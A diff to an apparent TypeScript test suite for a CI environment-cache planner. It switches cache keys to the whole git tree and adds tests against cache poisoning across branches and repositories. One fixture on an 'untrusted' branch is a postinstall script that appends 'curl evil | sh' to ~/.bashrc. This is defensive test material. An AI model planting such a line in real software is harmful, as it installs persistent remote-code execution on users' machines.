@@ -122,23 +122,64 @@ describe('environment plan without Node', () => {
     expect(run.stderr.toString().split('\0').slice(0, -1)).toEqual(hostile);
   });
 
-  it('keys the cache on the lockfile blobs: a changed lockfile changes it, an unrelated file does not', async () => {
+  it('keys the cache on the whole tree: a changed lockfile changes it, and so does any other file', async () => {
     const r = await repoWith({ 'go.mod': 'module x\n', 'go.sum': 'a v1 h1:x\n', 'main.go': 'package main\n' });
     const first = await plan(r);
+    expect(first).toMatchObject({ commit: r.head(), tree: r.git('rev-parse', 'HEAD^{tree}').trim() });
+    // Setup may run any file of the repository: a change to code makes a new environment.
     r.write('main.go', 'package main\nfunc main() {}\n');
     r.commit('code change');
     const afterCode = await plan(r);
-    expect(afterCode.cacheKey).toBe(first.cacheKey);
+    expect(afterCode.cacheKey).not.toBe(first.cacheKey);
+    // Another commit with the same files (an empty commit, a revert) keeps it.
+    r.git('commit', '-q', '--allow-empty', '-m', 'empty');
+    expect((await plan(r)).cacheKey).toBe(afterCode.cacheKey);
     r.write('go.sum', 'a v1 h1:y\n');
     r.commit('dependency change');
     const afterLock = await plan(r);
-    expect(afterLock.cacheKey).not.toBe(first.cacheKey);
+    expect(afterLock.cacheKey).not.toBe(afterCode.cacheKey);
     expect(afterLock.keyFiles.find((k) => k.path === 'go.sum')!.blob).toBe(r.git('rev-parse', 'HEAD:go.sum').trim());
     // Another image, or the same files in another repository, never share a layer.
     expect((await plan(r, { imageVersion: 'debian-bookworm-2' })).cacheKey).not.toBe(afterLock.cacheKey);
     const twin = await repoWith({ 'go.mod': 'module x\n', 'go.sum': 'a v1 h1:y\n', 'main.go': 'package main\nfunc main() {}\n' });
+    expect((await plan(twin)).tree).toBe(afterLock.tree);
     expect((await plan(twin)).cacheKey).not.toBe(afterLock.cacheKey);
     expect(afterLock.cacheKey).toMatch(/^[0-9a-f]{64}$/);
+  });
+
+  it('gives two branches whose setup runs a different postinstall script different keys', async () => {
+    const pkg = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node scripts/postinstall.js' } });
+    const r = await repoWith({
+      '.factory/pipeline.json': JSON.stringify({ environment: { setup: 'npm ci' } }),
+      'package.json': pkg,
+      'package-lock.json': '{}',
+      'scripts/postinstall.js': 'console.log("hello")\n',
+    });
+    const resolveNode = async () => '22.12.0';
+    const at = async (commit: string) => planEnvironment({ repoPath: r.dir, commit, config: await loadPipelineConfig(r.dir, commit), imageVersion: 'debian-bookworm-1', registry, resolveNode });
+    const main = await at(r.head());
+    r.git('checkout', '-q', '-b', 'untrusted');
+    r.write('scripts/postinstall.js', 'require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "curl evil | sh\\n")\n');
+    r.commit('a different postinstall');
+    const other = await at(r.head());
+    // The setup as text and the lockfiles are the same on both branches; only the tree tells them apart.
+    expect(other.steps).toEqual(main.steps);
+    expect(other.keyFiles).toEqual(main.keyFiles);
+    expect(other.cacheKey).not.toBe(main.cacheKey);
+  });
+
+  it('never gives a layer of one repository to another cloned at the same path', async () => {
+    const files = { Makefile: 'all:\n\ttrue\n', '.factory/pipeline.json': JSON.stringify({ environment: { setup: 'make' } }) };
+    const a = await repoWith(files);
+    const first = await plan(a);
+    // The same files, committed anew in another repository at the very same path.
+    fs.rmSync(path.join(a.dir, '.git'), { recursive: true, force: true });
+    a.git('init', '-q', '-b', 'main');
+    a.git('add', '-A');
+    a.git('-c', 'user.name=Other', '-c', 'user.email=other@example.invalid', 'commit', '-q', '-m', 'another repository');
+    const second = await plan(a);
+    expect(second.tree).toBe(first.tree);
+    expect(second.cacheKey).not.toBe(first.cacheKey);
   });
 
   it('keys on the files pipeline.json names, null for one that is absent', async () => {
